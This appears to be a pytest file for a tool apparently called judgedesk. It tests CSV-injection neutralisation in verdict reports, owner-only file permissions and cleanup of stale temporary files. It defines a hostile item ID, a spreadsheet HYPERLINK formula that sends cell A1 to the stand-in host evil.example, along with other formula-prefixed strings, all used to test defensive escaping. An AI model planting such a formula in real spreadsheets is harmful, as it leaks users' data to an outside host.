"""The report files of a run folder on the mock backend: spreadsheet-safe verdicts.csv, owner-only files whatever
the umask, and the temporaries of a killed writer cleaned up."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from judgedesk.core import DecodingSettings, EvalItem, Judge
from judgedesk.core.backends._mock import MockBackend
from judgedesk.core.datasets import Dataset, PairTask
from judgedesk.core.reports import restore_csv_cell, write_reports
from judgedesk.core.runs import RunStore, run_batch

REPORT_FILES = ("report.html", "verdicts.csv", "summary.json", "battles.jsonl")
HOSTILE_ID = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.fixture
def umask_zero() -> Iterator[None]:
    """The most permissive umask: every mode below is judgedesk's own doing."""
    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _hostile_dataset() -> Dataset:
    rows = [(HOSTILE_ID, "=1+1", "+1+1", "-1-1"), ("@cat", "-model", "@model", "\tcategory"), ("'quoted", "a", "b", "")]
    pairs = tuple(PairTask(item=EvalItem(id=item_id, instruction=f"Question {n}", responses=(f"good {n}", f"bad {n}"),
                                         category=category or None), model_a=model_a, model_b=model_b)
                  for n, (item_id, model_a, model_b, category) in enumerate(rows))
    return Dataset(source=Path("mem"), kind="pairs", models=("=1+1", "+1+1"), pairs=pairs, grades=())


def _judge() -> Judge:
    def prefers_good(prompt: str, options: list[str]) -> list[float]:
        first_is_good = prompt.find("good") < prompt.find("bad")
        return [0.0 if (o == "1") == first_is_good and o in ("1", "2") else -9.0 for o in options]

    return Judge(MockBackend(option_scores=prefers_good), format="pandalm", decoding=DecodingSettings())


def _verdict_rows(folder: Path) -> list[dict[str, str]]:
    with (folder / "verdicts.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_verdicts_csv_neutralises_text_from_the_data_and_restores_exactly(tmp_path: Path) -> None:
    run_batch(tmp_path / "run", _hostile_dataset(), _judge())
    write_reports(tmp_path / "run")
    rows = _verdict_rows(tmp_path / "run")
    assert len(rows) == 6
    for row in rows:
        for column in ("item_id", "model_a", "model_b", "category", "raw_output", "reason"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
    first = rows[0]
    assert first["item_id"] == "'" + HOSTILE_ID
    assert (first["model_a"], first["model_b"], first["category"]) == ("'=1+1", "'+1+1", "'-1-1")
    assert {restore_csv_cell(row["item_id"]) for row in rows} == {HOSTILE_ID, "@cat", "'quoted"}
    assert {restore_csv_cell(row["category"]) for row in rows} == {"-1-1", "\tcategory", ""}
    # Numbers judgedesk computes are plain numbers.
    assert [row["position"] for row in rows] == ["0", "0", "1", "1", "2", "2"]
    assert all(float(row["p_A"]) >= 0 for row in rows)


def test_a_negative_score_stays_a_number(tmp_path: Path) -> None:
    run_batch(tmp_path / "run", _hostile_dataset(), _judge())
    with RunStore(tmp_path / "run") as store:
        info = store.latest_run()
        assert info is not None
        content = store.tasks(info.run_key)[0].content
        store.put_verdict(info.run_key, content, "AB", "ok", {"winner": "A", "score": -0.5, "raw_output": "-1"})
    write_reports(tmp_path / "run")
    first = _verdict_rows(tmp_path / "run")[0]
    assert first["score"] == "-0.5" and first["raw_output"] == "'-1"


def test_every_file_of_a_run_folder_is_owner_only_under_umask_0(tmp_path: Path, umask_zero: None) -> None:
    folder = tmp_path / "run"
    run_batch(folder, _hostile_dataset(), _judge())
    write_reports(folder)
    assert _mode(folder) == 0o700
    written = sorted(path.name for path in folder.iterdir())
    assert {*REPORT_FILES, "run.sqlite", ".lock"} <= set(written)
    for name in written:  # the reports, the lock, the database and SQLite's -wal and -shm
        assert _mode(folder / name) == 0o600, name


def test_an_older_run_folder_and_its_wider_files_are_tightened(tmp_path: Path, umask_zero: None) -> None:
    folder = tmp_path / "run"
    run_batch(folder, _hostile_dataset(), _judge())
    write_reports(folder)
    # As an older version left it: folder and files readable by everyone.
    os.chmod(folder, 0o755)
    for path in folder.iterdir():
        os.chmod(path, 0o644)
    write_reports(folder)
    assert _mode(folder) == 0o700
    assert all(_mode(folder / name) == 0o600 for name in REPORT_FILES)
    run_batch(folder, _hostile_dataset(), _judge())  # opening the store and the lock tightens them too
    assert [path.name for path in folder.iterdir() if _mode(path) != 0o600] == []


def test_temporaries_of_a_killed_writer_are_removed_on_the_next_write(tmp_path: Path) -> None:
    folder = tmp_path / "run"
    run_batch(folder, _hostile_dataset(), _judge())
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True,
                          check=True)
    dead_pid = int(dead.stdout)
    stale = [folder / f".{name}.{dead_pid}.tmp" for name in REPORT_FILES]
    running = folder / f".report.html.{os.getppid()}.tmp"  # a live process's write in progress
    unrelated = folder / f".notes.txt.{dead_pid}.tmp"  # not judgedesk's: never touched
    for path in (*stale, running, unrelated):
        path.write_text("half a report", encoding="utf-8")
    write_reports(folder)
    assert [path for path in stale if path.exists()] == []
    assert running.exists() and unrelated.exists()
    assert not list(folder.glob(f".*.{os.getpid()}.tmp"))  # this write left none of its own


def test_a_carriage_return_in_a_model_output_stays_inside_its_cell(tmp_path: Path) -> None:
    run_batch(tmp_path / "run", _hostile_dataset(), _judge())
    with RunStore(tmp_path / "run") as store:
        info = store.latest_run()
        assert info is not None
        content = store.tasks(info.run_key)[0].content
        store.put_verdict(info.run_key, content, "AB", "ok", {"winner": "A", "raw_output": "one\rtwo\r"})
    write_reports(tmp_path / "run")
    rows = _verdict_rows(tmp_path / "run")
    assert len(rows) == 6 and rows[0]["raw_output"] == "one\rtwo\r"
